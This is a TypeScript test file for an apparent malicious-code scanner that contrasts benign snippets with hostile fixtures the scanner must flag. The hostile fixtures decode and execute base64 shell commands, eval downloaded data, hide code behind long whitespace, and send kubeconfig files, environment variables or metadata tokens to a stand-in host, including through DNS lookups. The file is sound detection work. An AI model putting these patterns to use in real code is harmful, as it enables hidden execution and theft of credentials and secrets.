// Programs of well-known projects that once raised a false alarm, in short, each beside one that must raise it.
import { describe, expect, it } from 'vitest';
import { verdicts } from './support.ts';

const lines = (...all: readonly string[]): string => `${all.join('\n')}\n`;
const loud = async (path: string, text: string): Promise<string[]> =>
  (await verdicts(path, text)).filter((verdict) => !/ (?:LOW|INFO)$/.test(verdict));

const HELPER = lines(
  'import base64, subprocess',
  'def start(command):',
  '    return subprocess.Popen(command, stdout=subprocess.PIPE)',
  'def images(name):',
  '    start("docker images -q %s" % name)',
);

describe('a helper that starts what it is given', () => {
  it('may be given a token as an argument of a program', async () => {
    const text = lines(
      HELPER,
      'def login(auth):',
      '    token = base64.b64decode(auth["token"]).decode()',
      '    start(["docker", "login", "-p", token])',
    );
    expect(await loud('docker.py', text)).toEqual([]);
  });

  it('may not be given a program that was decoded', async () => {
    const text = lines(
      HELPER,
      'def run(data):',
      '    start(["bash", "-c", base64.b64decode(data["x"]).decode()])',
    );
    expect(await loud('docker.py', text)).toEqual(['CODE-DECODE-EXECUTE CRITICAL']);
  });
});

describe('eval beside a download', () => {
  const FETCH =
    'import urllib.request\ndata = urllib.request.urlopen("https://files.example.invalid/a.png").read()\n';

  it('may work out a fraction', async () => {
    expect(await loud('size.py', `${FETCH}width = int(2500 * eval("3/4"))\n`)).toEqual([]);
  });

  it.each(['name', '"f(x)"'])('may not run %s', async (argument) => {
    expect(await loud('size.py', `${FETCH}eval(${argument})\n`)).toEqual(['CODE-DOWNLOAD-EXECUTE HIGH']);
  });
});

describe('a long run of blanks', () => {
  const BLANKS = ' '.repeat(300);

  it.each([
    ['a comment', `x = 1  # the version${BLANKS} \\", # the version to use\n`],
    ['a text', `TABLE = "left${BLANKS}right"\n`],
  ])('may stand in %s', async (_, text) => {
    expect(await loud('train.py', text)).toEqual([]);
  });

  it.each([
    ['a call', `x = 1;${BLANKS}run(x)\n`],
    ['an import', `x = 1;${BLANKS}import payload\n`],
    ['a setting', `x = 1;${BLANKS}SAFE = False\n`],
    ['a call behind a text that looks like a comment', `x = "# version";${BLANKS}run(x)\n`],
    ['a call behind a text of several lines', `x = """\n# version${BLANKS}"""; run(x)\n`],
  ])('may not stand before %s', async (_, text) => {
    expect(await loud('train.py', text)).toContain('CODE-OFF-SCREEN HIGH');
  });
});

describe('a bundle that decodes its WebAssembly', () => {
  const WASM =
    'const bytes = Buffer.from("AGFzbQEAAAABKwhgAX8Bf2AEf39/fwBgAAF/YAAAYAF/AGADf39/AX9g", "base64");\n';

  it('may take a part of a text by what it computes', async () => {
    const text = lines(
      WASM,
      'const at = new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.start();',
      'function parse(source) { return (0, eval)(source.slice(at, at + 9)); }',
      'exports.parse = parse;',
    );
    expect(await loud('lexer.js', text)).toEqual([]);
  });

  it('may hand round what its module gives', async () => {
    const text = lines(
      WASM,
      'let found;',
      'WebAssembly.compile(bytes).then(WebAssembly.instantiate).then(({ exports }) => { found = exports; });',
      'function parse(source) { return [source.slice(found.at()), found.size()]; }',
      'function again(name) { return parse(load(parse(name)[1])); }',
      'function run(name) { return (0, eval)(again(name)[0]); }',
    );
    expect(await loud('lexer.js', text)).toEqual([]);
  });

  it('may not run it as a text', async () => {
    expect(await loud('lexer.js', `${WASM}eval(bytes.toString().slice(4));\n`)).toEqual([
      'CODE-DECODE-EXECUTE CRITICAL',
    ]);
  });
});

describe('a line of shell that a function puts together', () => {
  const joining = (line: string): string =>
    lines(
      'import subprocess, wget',
      'def call(command):',
      '    subprocess.check_call(command, shell=True)',
      'def fetch(urls, name):',
      '    parts = []',
      '    for url in urls:',
      '        parts.append(wget.download(url))',
      '    def joined(parts):',
      `        return f'${line}'`,
      '    command = joined(parts)',
      '    call(command)',
    );

  it('may name what was downloaded', async () => {
    expect(await loud('download.py', joining('cat {" ".join(parts)} > {name}'))).toEqual([]);
  });

  it.each(['sh {" ".join(parts)}', '{parts[0]} --install'])('may not run it: %s', async (line) => {
    expect(await loud('download.py', joining(line))).toContain('CODE-DOWNLOAD-RUN CRITICAL');
  });
});

describe('a request with nothing in it', () => {
  const asking = (data: string): string =>
    lines(
      'import urllib.request',
      'def metadata(path):',
      '    return urllib.request.urlopen("http://metadata.google.internal/computeMetadata/v1/" + path).read()',
      'def restart():',
      `    urllib.request.urlopen("http://" + metadata("instance/ip") + ":8475/restart"${data})`,
    );

  it.each(['', ', data=None', ', data=b""'])('may go where the metadata service says: %j', async (data) => {
    expect(await loud('tpu.py', asking(data))).toEqual([]);
  });

  it('may not carry what the service says', async () => {
    expect(await loud('tpu.py', asking(', data=metadata("token")'))).toContain('CODE-METADATA HIGH');
  });
});

describe('what a library is told', () => {
  it('may be where its settings are: they are not what it gives', async () => {
    const text = lines(
      'import requests',
      'def connect():',
      '    return Client(config_file="~/.kube/config")',
      'def ask():',
      '    requests.post(connect().url(), json={"prompt": "hi"})',
    );
    expect(await loud('bench.py', text)).toEqual(['CODE-CREDENTIAL-SENT MEDIUM']);
  });

  it('may not be what is read and sent', async () => {
    const text = lines(
      'import requests',
      'def get(path):',
      '    return open(path).read()',
      'def main():',
      '    requests.post("https://files.example.invalid/", data=get("~/.kube/config"))',
    );
    expect(await loud('bench.py', text)).toEqual(['CODE-CREDENTIAL-SENT HIGH']);
  });

  it('may be one variable of the environment', async () => {
    const text = lines(
      'import os, requests',
      'requests.post(value_of(os.environ, "SERVER_URL"), json={"prompt": "hi"})',
    );
    expect(await loud('bench.py', text)).toEqual([]);
  });

  it('may not be all of them', async () => {
    const text = lines(
      'import os, requests',
      'requests.post("https://files.example.invalid/", data=dump(os.environ))',
    );
    expect(await loud('bench.py', text)).toEqual(['CODE-ENVIRONMENT-SENT CRITICAL']);
  });
});

describe('an environment beside the network', () => {
  const FETCH = 'build = urllib.request.urlopen("https://files.example.invalid/build.txt").read()';
  const IMPORTS = 'import os, requests, socket, subprocess, urllib.request';

  it('may be that of a program that is started', async () => {
    const text = lines(IMPORTS, FETCH, 'env = dict(os.environ)', 'subprocess.check_call(["make"], env=env)');
    expect(await loud('get.py', text)).toEqual([]);
  });

  it('may stand beside the machine asking for its own address', async () => {
    const text = lines(
      IMPORTS,
      'for key, value in os.environ.items():',
      '    print(key)',
      'ip = socket.gethostbyname(socket.gethostname())',
    );
    expect(await loud('start.py', text)).toEqual([]);
  });

  it.each([
    ['sent', 'requests.post("https://files.example.invalid/", json=env)', 'CRITICAL'],
    ['kept beside a download', 'print(env)', 'HIGH'],
  ])('may not be %s', async (_, then, severity) => {
    const text = lines(IMPORTS, FETCH, 'env = dict(os.environ)', then);
    expect(await loud('get.py', text)).toContain(`CODE-ENVIRONMENT-SENT ${severity}`);
  });

  it('may not be sent by who starts a program with it', async () => {
    const text = lines(
      IMPORTS,
      'env = dict(os.environ)',
      'subprocess.check_call(["make"], env=env)',
      'requests.post("https://files.example.invalid/", json=env)',
    );
    expect(await loud('get.py', text)).toEqual(['CODE-ENVIRONMENT-SENT CRITICAL']);
  });

  it('may not be looked up', async () => {
    const text = lines(
      IMPORTS,
      'data = "".join(os.environ.values())',
      'socket.gethostbyname(data.encode().hex() + ".files.example.invalid")',
    );
    expect((await loud('start.py', text)).length).toBeGreaterThan(0);
  });
});
